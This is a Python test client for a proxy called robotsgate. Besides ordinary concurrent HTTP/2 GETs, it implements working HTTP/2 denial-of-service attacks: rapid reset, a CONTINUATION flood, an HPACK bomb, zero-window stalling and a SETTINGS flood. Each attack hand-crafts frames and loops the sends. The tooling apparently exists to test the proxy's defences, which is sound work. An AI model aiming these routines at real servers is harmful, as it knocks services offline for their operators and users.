#!/usr/bin/env python3
"""An HTTP/2-only client (ALPN `h2` alone), and the known HTTP/2 attacks, for the tests.

Built on PyPI `h2` (hyper-h2), an implementation independent of robotsgate's (the Rust
`h2` crate). It reaches robotsgate through a CONNECT tunnel (`--proxy`) or straight
(`--direct`, a connection the kernel redirects), then speaks TLS offering only `h2`.

Modes (each prints one JSON object on stdout):
  get PATH...            all paths as concurrent streams on one connection:
                         {"alpn", "max_concurrent_streams" (robotsgate's setting),
                          "responses": [{"path", "status", "length", "headers"}]}
  rapid-reset N          N streams for --path, each reset (CANCEL) right after its
                         HEADERS, or with --gap, a --batch of streams reset once
                         robotsgate serves them
  continuation N         one HEADERS without END_HEADERS, then N CONTINUATION frames
  hpack-bomb N           one header block: a 4 KiB field into the dynamic table, then
                         N one-octet references to it (decoded: N x 4 KiB)
  zero-window N PATH     SETTINGS_INITIAL_WINDOW_SIZE 0, N streams for PATH, no
                         WINDOW_UPDATE for --hold seconds
  settings-flood N       N SETTINGS frames without reading a single ACK
Attacks report what came back: {"sent", "goaway", "closed", "statuses", "resets"}.
"""

import argparse
import json
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings


def connect(args):
    host, port = args.target.rsplit(":", 1)
    if args.proxy:
        phost, pport = args.proxy.rsplit(":", 1)
        raw = socket.create_connection((phost, int(pport)), timeout=args.timeout)
        raw.sendall(f"CONNECT {args.target} HTTP/1.1\r\nHost: {args.target}\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = raw.recv(4096)
            if not chunk:
                raise SystemExit("proxy closed during CONNECT")
            head += chunk
        status = head.split(b" ", 2)[1]
        if status != b"200":
            raise SystemExit(f"CONNECT answered {head!r}")
    else:
        raw = socket.create_connection((args.direct or host, int(port)), timeout=args.timeout)
    ctx = ssl.create_default_context(cafile=args.cafile)
    ctx.set_alpn_protocols(["h2"])
    tls = ctx.wrap_socket(raw, server_hostname=host)
    return tls, host, port


def request_headers(host, port, path, method="GET"):
    return [
        (":method", method),
        (":scheme", "https"),
        (":authority", f"{host}:{port}"),
        (":path", path),
        ("user-agent", "h2-only-client/1.0"),
    ]


def start(tls, settings=None):
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    conn = h2.connection.H2Connection(config=config)
    if settings:
        conn.local_settings = h2.settings.Settings(client=True, initial_values=settings)
    conn.initiate_connection()
    tls.sendall(conn.data_to_send())
    return conn


def get(args):
    tls, host, port = connect(args)
    conn = start(tls)
    streams = {}
    for path in args.rest:
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, request_headers(host, port, path), end_stream=True)
        streams[sid] = {"path": path, "status": None, "length": 0, "headers": {}, "done": False}
    tls.sendall(conn.data_to_send())
    deadline = time.monotonic() + args.timeout
    while not all(s["done"] for s in streams.values()) and time.monotonic() < deadline:
        data = tls.recv(65536)
        if not data:
            break
        for event in conn.receive_data(data):
            s = streams.get(getattr(event, "stream_id", None))
            if isinstance(event, h2.events.ResponseReceived):
                headers = dict(event.headers)
                s["status"] = int(headers[":status"])
                s["headers"] = {k: v for k, v in headers.items() if not k.startswith(":")}
            elif isinstance(event, h2.events.DataReceived):
                s["length"] += len(event.data)
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                s["done"] = True
        tls.sendall(conn.data_to_send())
    print(json.dumps({
        "alpn": tls.selected_alpn_protocol(),
        "max_concurrent_streams": conn.remote_settings.max_concurrent_streams,
        "responses": [
            {k: v for k, v in s.items() if k != "done"} for s in streams.values()
        ],
    }))


class Outcome:
    """What an attacked connection said back."""

    def __init__(self):
        self.goaway = None
        self.closed = False
        self.statuses = []
        self.resets = 0

    def read(self, tls, conn, wait):
        """Reads what arrives for up to `wait` seconds (or until the close)."""
        tls.settimeout(0.2)
        deadline = time.monotonic() + wait
        while time.monotonic() < deadline and not self.closed:
            try:
                data = tls.recv(65536)
            except (socket.timeout, TimeoutError):
                continue
            except (ConnectionError, ssl.SSLError, OSError):
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            try:
                events = conn.receive_data(data)
            except Exception:  # the attack left the client's own state broken
                events = []
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.goaway = int(event.error_code)
                elif isinstance(event, h2.events.ResponseReceived):
                    self.statuses.append(int(dict(event.headers)[":status"]))
                elif isinstance(event, h2.events.StreamReset):
                    self.resets += 1
            try:
                tls.sendall(conn.data_to_send())
            except OSError:
                self.closed = True

    def report(self, sent):
        print(json.dumps({
            "sent": sent, "goaway": self.goaway, "closed": self.closed,
            "statuses": self.statuses, "resets": self.resets,
        }))


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def rapid_reset(args):
    tls, host, port = connect(args)
    conn = start(tls)
    out = Outcome()
    sent = 0
    try:
        while sent < args.count:
            # A batch of streams opened; with --gap, reset only once robotsgate has
            # accepted them (and started serving), else reset right behind each HEADERS.
            batch = []
            for _ in range(min(args.batch, args.count - sent)):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, request_headers(host, port, args.path), end_stream=True)
                if args.gap:
                    batch.append(sid)
                else:
                    conn.reset_stream(sid, error_code=8)  # CANCEL
                sent += 1
            tls.sendall(conn.data_to_send())
            if args.gap:
                out.read(tls, conn, args.gap)
                for sid in batch:
                    conn.reset_stream(sid, error_code=8)
                tls.sendall(conn.data_to_send())
    except Exception as e:  # GOAWAY received, or the connection closed under us
        print(f"stopped after {sent}: {e!r}", file=sys.stderr)
    out.read(tls, conn, args.hold)
    out.report(sent)


def continuation(args):
    tls, host, port = connect(args)
    conn = start(tls)
    out = Outcome()
    enc = conn.encoder.encode(request_headers(host, port, "/page"))
    sent = 0
    try:
        tls.sendall(frame(0x1, 0x1, 1, enc))  # HEADERS, END_STREAM, no END_HEADERS
        filler = b"\x00" * 16  # literal fields, never ending
        batch = b"".join(frame(0x9, 0x0, 1, filler) for _ in range(1000))
        while sent < args.count:
            tls.sendall(batch)
            sent += 1000
    except OSError as e:
        print(f"stopped after {sent}: {e!r}", file=sys.stderr)
    out.read(tls, conn, args.hold)
    out.report(sent)


def hpack_bomb(args):
    tls, host, port = connect(args)
    conn = start(tls)
    out = Outcome()
    block = conn.encoder.encode(request_headers(host, port, "/page"))
    # A literal with incremental indexing, new name: 0x40, name, value (4000 octets).
    value = b"v" * 4000
    block += b"\x40" + bytes([6]) + b"x-bomb" + b"\x7f" + encode_int(len(value) - 127) + value
    # Entry 62 of the table (the newest dynamic entry), referenced N times.
    block += b"\xbe" * args.count
    frames = []
    chunks = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    for i, chunk in enumerate(chunks):
        last = i == len(chunks) - 1
        kind = 0x1 if i == 0 else 0x9
        flags = (0x1 if i == 0 else 0) | (0x4 if last else 0)
        frames.append(frame(kind, flags, 1, chunk))
    try:
        tls.sendall(b"".join(frames))
    except OSError as e:
        print(f"send failed: {e!r}", file=sys.stderr)
    out.read(tls, conn, args.hold)
    out.report(args.count)


def encode_int(n):
    """HPACK's integer continuation octets (after a full 7-bit prefix)."""
    out = b""
    while n >= 128:
        out += bytes([(n % 128) + 128])
        n //= 128
    return out + bytes([n])


def zero_window(args):
    tls, host, port = connect(args)
    conn = start(tls, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    out = Outcome()
    path = args.rest[0]
    for _ in range(args.count):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, request_headers(host, port, path), end_stream=True)
    tls.sendall(conn.data_to_send())
    out.read(tls, conn, args.hold)
    out.report(args.count)


def settings_flood(args):
    tls, host, port = connect(args)
    start(tls)
    one = frame(0x4, 0x0, 0, struct.pack(">HI", 0x3, 100))  # MAX_CONCURRENT_STREAMS
    batch = one * 1000
    sent = 0
    tls.settimeout(2)
    try:
        while sent < args.count:
            tls.sendall(batch)
            sent += 1000
    except OSError as e:  # robotsgate stopped reading: we never read its ACKs
        print(f"blocked after {sent}: {e!r}", file=sys.stderr)
    print(json.dumps({"sent": sent, "goaway": None, "closed": False, "statuses": [], "resets": 0}))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode")
    p.add_argument("rest", nargs="*")
    p.add_argument("--target", required=True, help="host:port the requests are for")
    p.add_argument("--proxy", help="robotsgate's proxy listener (CONNECT)")
    p.add_argument("--direct", help="connect to this address instead (transparent mode)")
    p.add_argument("--cafile", required=True)
    p.add_argument("--timeout", type=float, default=20)
    p.add_argument("--hold", type=float, default=2)
    p.add_argument("--batch", type=int, default=50, help="rapid-reset: streams per batch")
    p.add_argument("--gap", type=float, default=0, help="rapid-reset: seconds before the resets")
    p.add_argument("--path", default="/page", help="rapid-reset: the path each stream asks for")
    args = p.parse_args()
    if args.mode == "get":
        return get(args)
    args.count = int(args.rest.pop(0))
    {
        "rapid-reset": rapid_reset,
        "continuation": continuation,
        "hpack-bomb": hpack_bomb,
        "zero-window": zero_window,
        "settings-flood": settings_flood,
    }[args.mode](args)


if __name__ == "__main__":
    main()
